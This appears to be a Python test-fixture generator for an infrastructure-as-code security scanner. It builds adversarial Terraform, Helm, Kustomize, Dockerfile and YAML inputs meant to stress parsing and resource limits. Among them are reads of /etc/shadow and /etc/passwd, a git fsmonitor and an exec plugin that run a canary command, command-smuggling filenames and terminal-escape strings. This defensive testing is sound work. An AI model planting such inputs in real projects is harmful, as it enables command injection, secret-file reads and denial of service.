            "bad.tf": 'locals {\n  a = range(1e9)\n  b = range(0, 1e18, 1e-9)\n  c = range(1, 10, 0)\n}\nresource "aws_s3_bucket" "b" {\n  for_each = toset(local.a)\n  acl = "public-read"\n}\n'
        },
    )
    yield (
        "hcl-setproduct",
        {
            "bad.tf": "locals {\n  a = ["
            + "1, " * 500
            + "]\n  b = setproduct(local.a, local.a, local.a, local.a)\n}\n"
            + _BUCKET.format("x = length(local.b)")
        },
    )
    yield (
        "hcl-for-nested",
        {
            "bad.tf": 'locals {\n  a = range(1000)\n  b = [for x in local.a : [for y in local.a : [for z in local.a : [for w in local.a : "${x}${y}${z}${w}"]]]]\n}\n'
            + _BUCKET.format("x = local.b")
        },
    )
    yield (
        "hcl-format-width",
        block(
            'a = format("%999999999d", 1)\n  b = format("%0999999999.999999999f", 1.5)\n  c = formatlist("%99999999s", ["a"])'
        ),
    )
    yield (
        "hcl-join-growth",
        {
            "bad.tf": 'locals {\n  a0 = "xxxxxxxxxxxxxxxx"\n'
            + "".join(
                f"  a{n} = join(local.a{n - 1}, [for i in range(100) : local.a{n - 1}])\n"
                for n in range(1, 12)
            )
            + "}\n"
            + _BUCKET.format("x = local.a11")
        },
    )
    yield (
        "hcl-concat-growth",
        {
            "bad.tf": 'locals {\n  a0 = ["x"]\n'
            + "".join(
                f"  a{n} = concat(local.a{n - 1}, local.a{n - 1}, local.a{n - 1})\n" for n in range(1, 40)
            )
            + "}\n"
            + _BUCKET.format("x = local.a39")
        },
    )
    yield (
        "hcl-merge-growth",
        {
            "bad.tf": "locals {\n  a0 = {x = 1}\n"
            + "".join(
                f"  a{n} = merge(local.a{n - 1}, {{x{n} = local.a{n - 1}, y{n} = local.a{n - 1}}})\n"
                for n in range(1, 40)
            )
            + "}\n"
            + _BUCKET.format("x = local.a39")
        },
    )
    yield (
        "hcl-jsonencode-growth",
        {
            "bad.tf": 'locals {\n  a0 = "\\"\\\\"\n'
            + "".join(f"  a{n} = jsonencode([local.a{n - 1}, local.a{n - 1}])\n" for n in range(1, 40))
            + "}\n"
            + _BUCKET.format("policy = local.a39")
        },
    )
    yield (
        "hcl-replace-regex",
        block(
            'a = replace("'
            + "a" * 30_000
            + '", "/(a+)+b/", "c")\n  b = regexall("(a|a)*b", "'
            + "a" * 30_000
            + '")\n  c = regex("(((a*)*)*)*b", "'
            + "a" * 5_000
            + '")'
        ),
    )
    yield (
        "hcl-replace-growth",
        {
            "bad.tf": 'locals {\n  a0 = "aaaaaaaaaa"\n'
            + "".join(f'  a{n} = replace(local.a{n - 1}, "a", "aaaaaaaaaa")\n' for n in range(1, 30))
            + "}\n"
            + _BUCKET.format("x = local.a29")
        },
    )
    yield "hcl-functions", block("a = " + "upper(" * 3_000 + '"x"' + ")" * 3_000)
    yield (
        "hcl-pow",
        block(
            'a = pow(10, 1e9)\n  b = pow(9, 99999)\n  c = parseint("'
            + "9" * 100_000
            + '", 36)\n  d = 1e999999999\n  e = 0x'
            + "f" * 1_000
            + "\n  f = log(0, 0)\n  g = 1 / 0\n  h = 1 % 0"
        ),
    )
    yield (
        "hcl-cidr",
        block(
            'a = cidrsubnets("::/0", [for i in range(1000) : 100]...)\n  b = cidrhost("0.0.0.0/0", 1e30)\n  c = cidrsubnet("10.0.0.0/8", 1e9, 1e9)'
        ),
    )
    yield (
        "hcl-substr",
        block(
            'a = substr("x", -1e18, 1e18)\n  b = slice([1], 0, 1e18)\n  c = chunklist(range(1000), 0)\n  d = element([], 1e18)'
        ),
    )
    yield (
        "hcl-templatefile",
        {
            "bad.tf": _BUCKET.format(
                'user_data = templatefile("${path.module}/bad.tf", {})\n  b = file("/dev/zero")\n  c = file("pipe")\n  d = fileset("/", "**")\n  e = filebase64("../../../../etc/shadow")'
            )
        },
        {"fifos": ("pipe",)},
    )
    yield (
        "hcl-template-loops",
        block('a = "' + "%{ for x in range(1000) }" * 30 + "x" + "%{ endfor }" * 30 + '"'),
    )
    yield "hcl-template-nested", block('a = "' + '${"' * 3_000 + "x" + '"}' * 3_000 + '"')
    yield "hcl-dollars-nested", block('a = "' + "${" * 50_000 + '"')
    yield "hcl-heredoc-nested", block("a = <<A\n" + "${<<B\n" * 500 + "x\n" + "B\n}\n" * 500 + "A")
    yield "hcl-heredoc-open", {"bad.tf": _BUCKET.format("a = <<-EOT\n" + "x\n" * 100_000)}
    yield "hcl-parentheses", block("a = " + "(" * 20_000 + "1" + ")" * 20_000)
    yield "hcl-brackets", block("a = " + "[" * 20_000 + "]" * 20_000)
    yield "hcl-braces", block("a = " + "{a = " * 10_000 + "1" + "}" * 10_000)
    yield "hcl-conditions", block("a = " + "true ? " * 3_000 + "1" + " : 2" * 3_000)
    yield "hcl-negations", block("a = " + "!" * 20_000 + "true\n  b = " + "-" * 20_000 + "1")
    yield "hcl-splats", block("a = b" + "[*].c" * 10_000 + "\n  d = e" + ".*.f" * 10_000)
    yield "hcl-indexes", block("a = b" + "[0]" * 20_000 + "\n  c = d" + ".e" * 20_000)
    yield "hcl-blocks-deep", {"bad.tf": 'resource "a" "b" {\n' + "x {\n" * 5_000 + "}\n" * 5_000 + "}\n"}
    yield "hcl-labels", {"bad.tf": "resource " + '"a" ' * 100_000 + "{\n}\n"}
    yield "hcl-comments-open", {"bad.tf": _BUCKET.format("") + "/*" * 200_000}
    yield "hcl-comment-nested", block("/* " * 50_000 + "*/")
    yield "hcl-equal-blocks", {"bad.tf": _BUCKET.format('acl = "public-read"') * 5_000}
    yield "hcl-equal-attributes", block("".join('acl = "public-read"\n' for _ in range(30_000)))
    yield (
        "hcl-circle-locals",
        {
            "bad.tf": "locals {\n"
            + "".join(f"  a{n} = local.a{(n + 1) % 3000}\n" for n in range(3_000))
            + "}\n"
            + _BUCKET.format("x = local.a0")
        },
    )
    yield (
        "hcl-circle-modules",
        {
            "main.tf": 'module "a" {\n  source = "./m"\n  x = 1\n}\n' + _BUCKET.format(""),
            "m/main.tf": 'module "b" {\n  source = "../"\n  for_each = toset(["1", "2", "3"])\n}\nmodule "c" {\n  source = "./"\n}\n',
        },
    )
    yield (
        "hcl-modules-for-each",
        {
            "main.tf": "".join(
                f'module "m{n}" {{\n  source = "./m"\n  for_each = toset([for i in range(20) : tostring(i)])\n  v = each.key\n}}\n'
                for n in range(60)
            ),
            "m/main.tf": 'variable "v" {}\n'
            + "".join(
                f'resource "aws_s3_bucket" "b{n}" {{\n  bucket = var.v\n  acl = "public-read"\n}}\n'
                for n in range(20)
            ),
        },
    )
    yield (
        "hcl-dynamic",
        {
            "bad.tf": 'resource "aws_security_group" "g" {\n'
            + '  dynamic "ingress" {\n    for_each = range(1000)\n    content {\n      from_port = ingress.value\n      to_port = 65535\n      cidr_blocks = ["0.0.0.0/0"]\n    }\n  }\n'
            * 100
            + "}\n"
        },
    )
    yield (
        "hcl-for-each-wide",
        {
            "bad.tf": 'resource "aws_s3_bucket" "b" {\n  for_each = {'
            + ", ".join(f'k{n} = "v"' for n in range(30_000))
            + '}\n  bucket = each.key\n  acl = "public-read"\n}\n'
        },
    )
    yield (
        "hcl-variables-deep",
        {
            "main.tf": 'variable "a" {\n  type = '
            + "list(" * 2_000
            + "string"
            + ")" * 2_000
            + "\n  default = "
            + "[" * 500
            + "]" * 500
            + "\n}\n",
            "terraform.tfvars": "a = " + "[" * 20_000 + "]" * 20_000 + "\n",
            "x.auto.tfvars": "a = range(1e9)\n" + 'b = "' + "x" * 1_000_000 + '"\n',
            "y.auto.tfvars.json": '{"a": ' + "[" * 50_000,
        },
    )
    yield (
        "hcl-policies",
        {
            "bad.tf": 'data "aws_iam_policy_document" "p" {\n'
            + '  statement {\n    actions = ["*"]\n    resources = ["*"]\n    condition {\n      test = "x"\n      variable = "y"\n      values = ["z"]\n    }\n  }\n'
            * 5_000
            + "}\n"
        },
    )
    yield (
        "hcl-yamldecode",
        block(
            "a = yamldecode(<<E\n"
            + "a: &a [*a]\nb: {{{{\n"
            + 'E\n  )\n  b = jsondecode("'
            + "[" * 50_000
            + '")\n  c = csvdecode("'
            + "a," * 50_000
            + '")\n  d = base64gzip("'
            + "x" * 50_000
            + '")\n  e = base64decode("'
            + "QUJD" * 100_000
            + '")'
        ),
    )
    yield (
        "hcl-manifests",
        {
            "bad.tf": "".join(
                f'resource "kubernetes_manifest" "m{n}" {{\n  manifest = yamldecode(<<E\napiVersion: v1\nkind: Pod\nmetadata: {{name: p{n}}}\nspec: {{hostPID: true, containers: [{{name: c, image: a}}]}}\nE\n  )\n}}\n'
                for n in range(800)
            )
        },
    )
    yield (
        "hcl-carriage-returns",
        {"bad.tf": (_BUCKET.format('acl = "public-read"') * 2_000).replace("\n", "\r")},
    )
    yield (
        "hcl-windows-ends",
        {
            "bad.tf": "".join(
                f'resource "aws_s3_bucket" "b{n}" {{\r\n  acl = "public-read"\r\n}}\r\n' for n in range(3_000)
            )
        },
    )
    yield "hcl-identifiers", block("é" * 100_000 + " = 1\n  " + "a-" * 100_000 + " = 2")


def _terraform_json() -> Parts:
    yield (
        "tfjson-deep",
        {"bad.tf.json": '{"resource": {"a": {"b": ' + '{"c": ' * 20_000 + "1" + "}" * 20_000 + "}}}"},
        TOLD,
    )
    yield (
        "tfjson-templates",
        {
            "bad.tf.json": json.dumps(
                {
                    "locals": {f"a{n}": "${local.a%d}${local.a%d}" % (n - 1, n - 1) for n in range(60)},
                    "resource": {
                        "aws_s3_bucket": {"b": {"bucket": "${local.a59}", "acl": '${join(",", range(1e9))}'}}
                    },
                }
            )
        },
    )
    yield (
        "tfjson-arrays",
        {
            "bad.tf.json": json.dumps(
                {"resource": [[[{"aws_s3_bucket": [{"b": [{"acl": "public-read"}] * 3_000}]}]]]}
            )
        },
    )
    yield (
        "tfjson-numbers",
        {
            "bad.tf.json": '{"resource": {"aws_s3_bucket": {"b": {"count": 1e999999999, "x": '
            + "9" * 4_000
            + ', "y": -0.0e-999999}}}}'
        },
    )
    yield (
        "tfvars-json",
        {
            "main.tf": 'variable "a" {}\n' + _BUCKET.format("x = var.a"),
            "terraform.tfvars.json": json.dumps({f"v{n}": "x" * 100 for n in range(20_000)}),
        },
    )
    change = {
        "address": "aws_s3_bucket.b",
        "mode": "managed",
        "type": "aws_s3_bucket",
        "name": "b",
        "change": {
            "actions": ["create"],
            "after": {"acl": "public-read"},
            "after_unknown": {},
            "after_sensitive": {},
        },
    }
    head = {"format_version": "1.2", "terraform_version": "1.9.0", "planned_values": {}}
    yield (
        "plan-types-odd",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "resource_changes": [
                        None,
                        5,
                        [],
                        {},
                        {"change": 5},
                        {**change, "change": {"actions": 5, "after": [], "after_sensitive": 7}},
                        {**change, "address": {}},
                        {**change, "type": None},
                    ],
                    "configuration": [],
                    "prior_state": 5,
                    "variables": [],
                }
            )
        },
    )
    yield (
        "plan-sensitive-many",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "resource_changes": [
                        {
                            **change,
                            "address": f"a.b{n}",
                            "change": {
                                **change["change"],
                                "after": {"acl": "public-read", "p": f"secret-{n}-{'x' * (n % 40)}"},
                                "after_sensitive": {"p": True},
                            },
                        }
                        for n in range(6_000)
                    ],
                }
            )
        },
    )  # type: ignore[dict-item]
    yield (
        "plan-sensitive-long",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "resource_changes": [
                        {
                            **change,
                            "change": {
                                **change["change"],
                                "after": {"acl": "public-read", "p": "s" * 3_000_000},
                                "after_sensitive": True,
                            },
                        }
                    ],
                }
            )
        },
    )  # type: ignore[dict-item]
    yield (
        "plan-strings-that-are-json",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "resource_changes": [
                        {
                            **change,
                            "type": "aws_iam_policy",
                            "change": {
                                **change["change"],
                                "after": {
                                    "policy": "[" * 100_000,
                                    "assume_role_policy": '{"Statement": ' * 500,
                                },
                            },
                        }
                    ]
                    * 50,
                }
            )
        },
    )  # type: ignore[dict-item]
    yield (
        "plan-modules",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "planned_values": {
                        "root_module": {
                            "child_modules": [
                                {
                                    "address": f"module.m{n}",
                                    "resources": [
                                        {
                                            "address": f"module.m{n}.aws_s3_bucket.b",
                                            "mode": "managed",
                                            "type": "aws_s3_bucket",
                                            "name": "b",
                                            "values": {"acl": "public-read"},
                                        }
                                    ],
                                }
                                for n in range(8_000)
                            ]
                        }
                    },
                }
            )
        },
    )
    yield (
        "plan-one-line-wide",
        {
            "plan.json": json.dumps(
                {
                    **head,
                    "resource_changes": [
                        {
                            **change,
                            "address": f"aws_s3_bucket.b{n}",
                            "change": {
                                **change["change"],
                                "after": {"acl": "public-read-write", "tags": {"a": "x" * 2_000}},
                            },
                        }
                        for n in range(6_000)
                    ],
                }
            )
        },
    )  # type: ignore[dict-item]
    yield (
        "plan-versions",
        {
            "plan.json": '{"format_version": "'
            + "9." * 50_000
            + '", "terraform_version": [], "planned_values": {}, "resource_changes": []}',
            "tfplan": b"PK\x03\x04" + b"\0" * 100_000,
        },
    )
    yield (
        "state-file",
        {
            "terraform.tfstate": json.dumps(
                {
                    "version": 4,
                    "terraform_version": "1.9.0",
                    "resources": [
                        {
                            "type": "aws_db_instance",
                            "name": "d",
                            "instances": [{"attributes": {"password": "hunter2hunter2"}}],
                        }
                    ]
                    * 5_000,
                }
            )
        },
    )


def _text() -> Parts:
    yield "env-lines", {".env": "".join(f"SECRET_{n}=h{n}x9Kq2LmZ7{n}vB\n" for n in range(20_000))}
    yield "env-one-line", {".env": "TOKEN=" + "aB3" * 1_500_000}
    yield "env-equals", {".env": "=" * 1_000_000 + "\n" + "A==" * 300_000}
    yield "env-quotes-open", {".env": 'A="' + "x\n" * 400_000}
    yield "env-export", {".env": "export " * 300_000 + "A=b\n"}
    yield (
        "env-urls",
        {"Dockerfile": "FROM alpine:latest\nENV A=" + "https%3A%2F%2Fu%3Ap%40h%2F" * 20_000 + "\n"},
    )
    yield (
        "env-assignments",
        {
            "Dockerfile": "FROM alpine:latest\nENV "
            + " ".join(f"PASSWORD{n}='p{n}w' TOKEN{n}=" + "x" * 30 for n in range(5_000))
            + "\n"
        },
    )
    yield (
        "key-blocks",
        {
            "Dockerfile": "FROM alpine:latest\nRUN <<E\n"
            + "-----BEGIN RSA PRIVATE "
            + "KEY-----\n"
            + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5\n" * 20_000
            + "E\n"
        },
    )
    yield (
        "key-blocks-open",
        {
            "bad.yaml": POD
            + "      args:\n"
            + "".join("      - '-----BEGIN OPENSSH PRIVATE " + f"KEY-----{n}'\n" for n in range(15_000))
        },
    )
    yield (
        "base64-runs",
        {"bad.yaml": POD + "      args:\n" + "".join(f"      - {'YWJj' * 200}{n}\n" for n in range(5_000))},
    )
    yield "base64-of-base64", {"bad.yaml": POD + "      args: ['" + "V1ZkS2FXTm5QVDA9" * 100_000 + "']\n"}
    yield (
        "jwt",
        {
            "bad.yaml": POD
            + "      args:\n"
            + "".join(
                "      - eyJ" + f"hbGciOiJIUzI1NiJ9.eyJzdWIiOiI{n}In0.{'a' * 43}\n" for n in range(10_000)
            )
        },
    )
    yield (
        "passwords-in-urls",
        {
            "bad.yaml": POD
            + "      args:\n"
            + "".join(f"      - postgres://u{n}:pw{n}word@h/db\n" for n in range(15_000))
        },
    )
    yield (
        "names-of-secrets",
        {
            "bad.yaml": POD
            + "      env:\n"
            + "".join(f"      - {{name: {'API_' * 50}KEY{n}, value: v}}\n" for n in range(8_000))
        },
    )


def _characters() -> Parts:
    pod = POD + "      securityContext: {privileged: true}\n"
    yield (
        "characters-nul-middle",
        {
            "bad.yaml": pod.encode() + b"#\0\n",
            "Dockerfile": b"FROM a:latest\n\0USER root\n",
            "bad.tf": b'resource "a" "b" {\n x = "\0"\n}\n',
            "bad.json": b'{"apiVersion": "v1",\0 "kind": "Pod"}',
            "compose.yaml": b"services: {a: {image: a\0b}}\n",
        },
    )
    yield (
        "characters-bom-middle",
        {
            "bad.yaml": pod.replace("kind", "\ufeffkind"),
            "b.yaml": pod.replace("\n", "\n\ufeff"),
            "Dockerfile": "FROM a:latest\n\ufeffUSER root\n",
            "bad.tf": '\ufeffresource "a" "b" {\n\ufeff}\n',
            "bad.json": '\ufeff{\ufeff"apiVersion": "v1", "kind": "Pod"}',
        },
    )
    yield (
        "characters-utf-16-cut",
        {
            "bad.yaml": pod.encode("utf-16")[:-1],
            "b.yaml": pod.encode("utf-16-be"),
            "c.yaml": b"\xff\xfe" + b"\x00\xd8" * 1_000,
            "Dockerfile": "FROM a:latest\n".encode("utf-16") + b"\x00",
        },
    )
    yield (
        "characters-utf-32",
        {
            "bad.yaml": pod.encode("utf-32"),
            "b.yaml": pod.encode("utf-32-be"),
            "c.yaml": b"\xff\xfe\x00\x00" + b"\xff" * 4_001,
            "bad.json": '{"apiVersion": "v1", "kind": "Pod"}'.encode("utf-32-le"),
        },
    )
    yield (
        "characters-separators",
        {
            "bad.yaml": pod.replace("name: c", "name: 'a\u2028b\u2029c\x85d'"),
            "Dockerfile": "FROM a:latest\u2028USER root\x85RUN x\x0b\x0cRUN y\n",
            "bad.tf": _BUCKET.format('acl = "public-read"').replace("\n", "\u2028"),
            "compose.yaml": "services:\u2028  a:\u2028    image: a\n",
        },
    )
    yield (
        "characters-surrogates",
        {
            "bad.yaml": pod.encode() + b"    # \xed\xa0\x80\xed\xbf\xbf\n",
            "bad.json": b'{"apiVersion": "v1", "kind": "Pod", "x": "\xed\xa0\x80"}',
            "Dockerfile": b"FROM a:latest\nRUN \xed\xa0\x80\n",
        },
    )
    yield (
        "characters-overlong",
        {
            "bad.yaml": b"\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80" * 100 + pod.encode(),
            "Dockerfile": b"\xf5\xff" * 1_000 + b"\nFROM a:latest\n",
        },
    )
    yield (
        "characters-bidi",
        {
            "bad.yaml": pod.replace("name: c", 'name: "\u202e\u2066c\u2069"'),
            "Dockerfile": "FROM a:latest\nRUN echo \u202e'x\u2066'\nUSER \u202eroot\n",
            "bad.tf": 'resource "aws_s3_bucket" "\u202eb" {\n  acl = "public-read"\n}\n',
        },
    )
    yield "characters-combining", {"bad.yaml": pod.replace("name: c", "name: 'a" + "\u0301" * 500_000 + "'")}
    yield (
        "characters-terminal",
        {
            "bad.yaml": pod.replace("name: c", 'name: "\\e]0;x\\a\\e[2J\\e[31m"'),
            "Dockerfile": "FROM a:latest\nUSER root\x1b]52;c;eA==\x07\n",
        },
    )
    yield (
        "characters-all",
        {"bad.yaml": pod + "      a: '" + "".join(map(chr, range(0x20, 0xD7FF))).replace("'", "") + "'\n"},
    )
    yield (
        "characters-latin",
        {
            "bad.yaml": pod.replace("name: c", "name: é").encode("latin-1"),
            "Dockerfile": "FROM a:latest\n# é\nUSER root\n".encode("latin-1"),
            "bad.tf": '# é\nresource "a" "b" {}\n'.encode("latin-1"),
        },
    )
    yield (
        "characters-random",
        lambda: {
            name: bytes((n * n * 131 + n * 17 + n // 97) % 256 for n in range(300_000))
            for name in (
                "a.yaml",
                "Dockerfile",
                "b.tf",
                "c.json",
                "compose.yaml",
                "d.tfvars",
                ".env",
                "e.tf.json",
                "kustomization.yaml",
                "Chart.yaml",
            )
        },
    )


def _beside() -> Parts:
    flaw = {"bad.yaml": POD + "      securityContext: {privileged: true}\n"}
    yield (
        "gitignore-regex",
        {
            **flaw,
            ".gitignore": "[a-" * 30_000
            + "\n"
            + "**/" * 20_000
            + "\n"
            + "*" * 50_000
            + "x\n"
            + "?*" * 20_000
            + "\n"
            + "\\" * 50_000
            + "\n",
        },
    )
    yield (
        "gitignore-deep",
        {
            **{f"{'a/' * 60}{n}.yaml": flaw["bad.yaml"] for n in range(5)},
            ".gitignore": "a*/**/a*/**/a*/**/a*/**/b\n" * 200 + "**/a/**/a/**/a/**/a/**/z\n" * 200,
        },
    )
    yield "gitignore-negations", {**flaw, ".gitignore": "".join(f"!x{n}\nx{n}\n" for n in range(20_000))}
    yield (
        "dockerignore-stars",
        {
            "Dockerfile": "FROM a:latest\nCOPY . /\n",
            ".dockerignore": "**/" * 300 + "*a*a*a*a*b\n" + "!**/**/**/*\n" * 500,
            **{f"{'a' * 60}{n}": "" for n in range(100)},
        },
    )
    yield (
        "suppress-lines",
        {
            "bad.yaml": POD
            + "".join(f"      # tarecheck: ignore[rule-{n}] -- because\n" for n in range(40_000))
        },
    )
    yield (
        "suppress-blocks",
        {
            "bad.yaml": POD
            + "      # tarecheck: ignore-start[privileged-container]\n" * 20_000
            + "      a: b\n"
        },
    )
    yield (
        "suppress-words",
        {
            "bad.yaml": POD
            + "      # tarecheck: ignore["
            + "a" * 500_000
            + "] until="
            + "9" * 100_000
            + " by="
            + "b" * 100_000
            + " -- "
            + "c" * 500_000
            + "\n",
            "Dockerfile": "FROM a:latest\n# hadolint ignore=" + "DL3002 " * 50_000 + "\nUSER root\n",
            "bad.tf": "#checkov:skip="
            + "A" * 200_000
            + ":b\n#tfsec:ignore:"
            + "*" * 100_000
            + "\n#trivy:ignore:"
            + "a[" * 50_000
            + "\n"
            + _BUCKET.format('acl = "public-read"'),
        },
    )
    yield (
        "suppress-many-findings",
        {
            "bad.yaml": "".join(
                f"---\n{POD.replace('name: p', f'name: p{n}')}      securityContext: {{privileged: true}} # tarecheck: ignore[privileged-container] -- x{n}\n"
                for n in range(4_000)
            )
        },
    )
    yield (
        "annotations-many",
        {
            "bad.yaml": "".join(
                f"---\n{POD.replace('{name: p}', f'{{name: p{n}, annotations: {{tarecheck.dev/ignore.privileged-container: x, checkov.io/skip1: CKV_K8S_16=y}}}}')}"
                for n in range(4_000)
            )
        },
    )
    yield (
        "git-index-links",
        {
            **flaw,
            ".git/HEAD": "ref: refs/heads/main\n",
            ".git/config": "[include]\n\tpath = ../../../../etc/passwd\n[core]\n\tfsmonitor = touch /tmp/pwned-by-a-scan\n\tworktree = /\n\thooksPath = .\n",
        },
    )
    yield (
        "git-directories",
        {
            **flaw,
            ".git/HEAD/x": "",
            ".git/objects/pack/x.pack": b"PACK" + b"\xff" * 1_000,
            ".git/refs/heads/main": "0" * 1_000_000,
        },
    )


def _trees() -> Parts:
    yield "chart-of-charts", {f"{'charts/c/' * n}Chart.yaml": _CHART for n in range(25)}
    yield (
        "chart-values-deep",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "a: " + "{b: " * 300 + "1" + "}" * 300 + "\n",
            "templates/a.yaml": POD,
        },
    )
    yield (
        "chart-values-bomb",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "a0: &a0 [x]\n"
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 20)),
            "templates/a.yaml": POD + "      securityContext: {privileged: true}\n",
        },
    )
    yield (
        "chart-recursion",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "a: 1\n",
            "templates/_h.tpl": '{{ define "x" }}{{ include "x" . }}{{ end }}\n',
            "templates/a.yaml": '{{ include "x" . }}\n' + POD,
        },
    )
    yield (
        "chart-loop",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "a: 1\n",
            "templates/a.yaml": "{{ range $i := until 100000000 }}\n---\n" + POD + "{{ end }}\n",
        },
    )
    yield (
        "chart-growth",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "a: 1\n",
            "templates/a.yaml": '{{ repeat 1000000000 "x" }}\n' + POD,
        },
    )
    yield (
        "chart-files",
        {
            "Chart.yaml": _CHART,
            "templates/a.yaml": '{{ .Files.Get "../../../etc/passwd" }}{{ (.Files.Glob "**").AsConfig }}\n'
            + POD,
            "values.yaml": "{}\n",
        },
    )
    yield (
        "chart-dependencies",
        {
            "Chart.yaml": _CHART
            + "dependencies:\n"
            + "".join(
                f"- {{name: d{n}, version: '*', repository: 'file://../../../d{n}'}}\n" for n in range(5_000)
            ),
            "templates/a.yaml": POD,
        },
    )
    yield (
        "chart-odd",
        {"Chart.yaml": "apiVersion: [\nname: {}\n", "templates/a.yaml": POD, "values.yaml": "- a\n- b\n"},
    )
    yield (
        "chart-many-templates",
        {
            "Chart.yaml": _CHART,
            "values.yaml": "x: 1\n",
            **{
                f"templates/t{n}.yaml": POD.replace("name: p", f"name: p{n}")
                + "      securityContext: {privileged: true}\n"
                for n in range(600)
            },
        },
    )
    yield (
        "kustomize-odd",
        {
            "kustomization.yaml": _KUSTOMIZE
            + "resources: {a: b}\npatches: [5, null, {path: []}]\nimages: [{name: {}, newTag: []}]\nreplicas: 7\ngenerators: [[]]\n",
            "p.yaml": POD,
        },
    )
    yield (
        "kustomize-remote",
        {
            "kustomization.yaml": _KUSTOMIZE
            + "resources: ['https://127.0.0.1:1/x.yaml', 'git@127.0.0.1:x/y?ref=z', '../../../../etc/passwd', /dev/zero, pipe]\n"
        },
        {"fifos": ("pipe",)},
    )
    yield (
        "kustomize-plugins",
        {
            "kustomization.yaml": _KUSTOMIZE
            + "generators: [g.yaml]\ntransformers: [g.yaml]\nhelmCharts: [{name: x, repo: 'https://127.0.0.1:1'}]\n",
            "g.yaml": "apiVersion: x/v1\nkind: Exec\nmetadata: {name: g, annotations: {config.kubernetes.io/function: 'exec: {path: ./run.sh}'}}\n",
            "run.sh": "#!/bin/sh\ntouch /tmp/pwned-by-a-scan\n",
        },
    )
    yield (
        "kustomize-diamond",
        {
            **{
                f"k{n}/kustomization.yaml": _KUSTOMIZE
                + f"resources: [../k{n + 1}, ../k{n + 1}/../k{n + 2}]\n"
                for n in range(18)
            },
            "k18/kustomization.yaml": _KUSTOMIZE + "resources: [p.yaml]\n",
            "k19/kustomization.yaml": _KUSTOMIZE + "resources: []\n",
            "k18/p.yaml": POD,
        },
    )
    yield (
        "kustomize-many",
        {f"o{n}/kustomization.yaml": _KUSTOMIZE + "resources: [../base]\n" for n in range(150)}
        | {
            "base/kustomization.yaml": _KUSTOMIZE + "resources: [p.yaml]\n",
            "base/p.yaml": POD + "      securityContext: {privileged: true}\n",
        },
    )
    yield (
        "kustomize-generators",
        {
            "kustomization.yaml": _KUSTOMIZE
            + "resources: [p.yaml]\nconfigMapGenerator:\n"
            + "".join(f"- {{name: c{n}, files: [p.yaml], literals: ['a=b']}}\n" for n in range(3_000)),
            "p.yaml": POD,
        },
    )


def _files() -> Parts:
    flaw = POD + "      securityContext: {privileged: true}\n"
    yield (
        "files-folders",
        {
            "Dockerfile/x": "",
            "main.tf/y": "",
            "compose.yaml/z": "",
            "plan.json/w": "",
            "kustomization.yaml/v": "",
            "Chart.yaml/u": "",
            ".env/t": "",
            ".dockerignore/s": "",
            "values.yaml/r": "",
        },
    )
    yield (
        "files-fifos",
        dict,
        {
            "fifos": (
                "compose.yaml",
                ".env",
                "main.tf.json",
                "terraform.tfvars",
                "Chart.yaml",
                "kustomization.yaml",
                ".dockerignore",
                "tarecheck.toml",
                "pyproject.toml",
                ".tarecheck-baseline.jsonl",
            )
        },
    )
    yield (
        "files-devices",
        dict,
        {
            "links": (
                ("Dockerfile", "/dev/zero"),
                ("a.yaml", "/dev/urandom"),
                ("b.tf", "/dev/full"),
                ("c.json", "/dev/tty"),
                ("compose.yaml", "/proc/self/environ"),
                (".env", "/dev/zero"),
                ("terraform.tfvars", "/dev/zero"),
                ("values.yaml", "/proc/kmsg"),
                (".gitignore", "/dev/zero"),
            )
        },
    )
    yield (
        "files-link-loops",
        {"a/x.yaml": flaw},
        {
            "links": (
                ("a/b", "../c"),
                ("c", "a"),
                ("d/e", ".."),
                ("f", "f"),
                ("g.yaml", "h.yaml"),
                ("h.yaml", "g.yaml"),
                ("a/root", "/"),
            )
        },
    )
    yield (
        "files-module-links",
        {"main.tf": 'module "m" {\n  source = "./m"\n}\n' + _BUCKET.format("")},
        {"links": (("m", "."), ("n.tf", "main.tf"), ("o.tf", "/dev/zero"))},
    )
    yield (
        "files-names",
        dict.fromkeys(
            (
                "a\nb.yaml",
                "\x1b[2J.yaml",
                "a\u202eb.yaml",
                " .yaml",
                "..yaml",
                "...yaml",
                "-",
                "--",
                "a" * 250 + ".yaml",
                "%00.yaml",
                "$(touch x).yaml",
                "`x`.yaml",
                "a;b.yaml",
                "a'b\"c.yaml",
                "*.yaml",
                "?.yaml",
                "[a].yaml",
                "{a}.yaml",
                "~.yaml",
                "a\\b.yaml",
                "CON.yaml",
                "a:b.yaml",
                "\u200b.yaml",
                "\ufeff.yaml",
            ),
            flaw,
        ),
    )
    yield "files-deep", {"/".join(["deep"] * 700) + "/bad.yaml": flaw}
    yield "files-many", {f"d{n % 50}/f{n}.yaml": "a: b\n" for n in range(6_000)}
    yield "files-many-dockerfiles", {f"d{n}/Dockerfile": "FROM a:latest\nUSER root\n" for n in range(1_200)}
    yield (
        "files-empty",
        dict.fromkeys(
            (
                "Dockerfile",
                "a.yaml",
                "b.tf",
                "c.json",
                "compose.yaml",
                ".env",
                "d.tf.json",
                "terraform.tfvars",
                "Chart.yaml",
                "values.yaml",
                "kustomization.yaml",
                ".dockerignore",
                ".gitignore",
                "plan.json",
                "tfplan",
            ),
            b"",
        ),
    )
    yield (
        "files-newline-only",
        dict.fromkeys(
            ("Dockerfile", "a.yaml", "b.tf", "c.json", "compose.yaml", ".env", "d.tf.json"), b"\r" * 1_000_000
        ),
    )
